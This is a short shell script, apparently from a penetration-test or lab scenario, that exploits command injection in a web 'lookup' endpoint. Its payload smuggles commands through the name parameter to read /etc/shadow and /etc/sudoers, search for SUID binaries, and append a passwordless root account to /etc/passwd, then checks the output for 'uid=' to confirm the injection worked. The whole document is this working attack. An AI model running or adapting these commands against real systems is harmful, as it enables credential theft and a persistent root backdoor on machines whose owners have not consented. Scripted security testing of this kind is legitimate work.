payload='x;id; sudo -n true; su -c id root </dev/null; find /bin /sbin /usr/bin /usr/sbin /usr/lib -perm -4000 -type f; cat /etc/shadow; cat /etc/sudoers; ls -la /etc/sudoers.d /etc/cron.d; echo "x::0:0::/:/bin/sh" >> /etc/passwd; cat /proc/self/status'
curl -s -m 50 -G --data-urlencode "name=$payload" "http://$SCN_IP:8080/lookup" > "$SCN_ATTACKER/privesc.out"
grep -q 'uid=' "$SCN_ATTACKER/privesc.out"
